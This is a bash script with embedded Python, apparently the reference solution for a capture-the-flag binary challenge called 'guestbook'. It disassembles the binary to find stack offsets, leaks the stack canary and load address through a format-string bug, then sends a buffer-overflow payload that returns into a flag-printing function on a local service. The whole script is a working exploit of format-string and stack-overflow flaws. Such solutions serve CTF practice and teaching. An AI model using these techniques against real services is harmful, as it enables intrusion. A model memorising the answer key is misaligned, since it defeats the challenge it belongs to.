#!/bin/bash
# Reference exploit. Offsets come from the handed-out binary (it is the one the service runs); the
# canary and the load address change at every connection, so both leak first, on the same connection.
set -euo pipefail
objdump -d --no-show-raw-insn challenge/guestbook > /tmp/guestbook.asm
python3 - <<'PY'
import re, socket

lines = [l for l in open("/tmp/guestbook.asm") if re.match(r"\s+[0-9a-f]+:\t", l)]
code = [(int(l.split(":")[0], 16), l.split("\t", 1)[1].strip()) for l in lines]
starts = [i for i, (_, ins) in enumerate(code) if ins == "push   %rbp" and code[i + 1][1] == "mov    %rsp,%rbp"]
functions = [code[a:b] for a, b in zip(starts, starts[1:] + [len(code)])]
data = open("challenge/guestbook", "rb").read()

def layout(fn):
    """(bytes from the frame's %rsp up to %rbp, the canary's offset below %rbp)"""
    head = "\n".join(i for _, i in fn[:8])
    pushes = len(re.findall(r"^push ", head, re.M)) - 1
    below = 8 * pushes + int(re.search(r"sub    \$0x([0-9a-f]+),%rsp", head).group(1), 16)
    return below, int(re.search(r"mov    %rax,-0x([0-9a-f]+)\(%rbp\)", head.split("%fs:0x28")[1]).group(1), 16)

# stage: find the flag-dumping function (it opens the path string), the name-printing session and
# the message reader with its buffer
path_at = data.index(b"/service/flag.txt")
win = next(fn[0][0] for fn in functions if any(f"# {path_at:x} " in i for _, i in fn))
def printf_of_stack_buffer(fn):
    return any("printf@plt" in fn[k][1] and "-0x" in fn[k - 3][1] and "(%rbp)" in fn[k - 3][1] for k in range(3, len(fn)))
session = next(fn for fn in functions if printf_of_stack_buffer(fn))
reader = next(fn for fn in functions if any("read@plt" in i for _, i in fn) and fn[0][0] != win)
call_read = next(k for k, (_, i) in enumerate(reader) if "read@plt" in i)
draft = int(next(re.search(r"lea    -0x([0-9a-f]+)\(%rbp\)", i).group(1) for _, i in reversed(reader[:call_read]) if "lea    -0x" in i), 16)
main_calls_session = next(a for a, i in code if re.match(rf"call   {session[0][0]:x} ", i))
return_site = next(a for a, _ in code if a > main_calls_session)
below, canary_slot = layout(session)
canary_arg, return_arg = 6 + (below - canary_slot) // 8, 6 + (below + 8) // 8
reader_canary = layout(reader)[1]

s = socket.create_connection(("127.0.0.1", 9001), timeout=10)
def until(marker):
    buf = b""
    while marker not in buf:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit(buf.decode(errors="replace"))
        buf += chunk
    return buf

# stage: leak the canary and the return address into main through the name's format string
until(b"your name: ")
s.sendall(f"%{canary_arg}$p|%{return_arg}$p\n".encode())
leak = re.search(rb"hello, (0x[0-9a-f]+)\|(0x[0-9a-f]+)", until(b"> "))
canary, base = int(leak.group(1), 16), int(leak.group(2), 16) - return_site

# stage: overflow the message buffer, keep the canary, return into the flag dumper
s.sendall(b"1\n")
until(b"message? ")
filler = b"B" * reader_canary  # what lies between the canary and the return address: saved registers, %rbp
payload = b"A" * (draft - reader_canary) + canary.to_bytes(8, "little") + filler + (base + win).to_bytes(8, "little")
s.sendall(f"{len(payload)}\n".encode())
until(b"message: ")
s.sendall(payload)
out = b""
while chunk := s.recv(4096):
    out += chunk
print(out.decode(errors="replace"))
PY
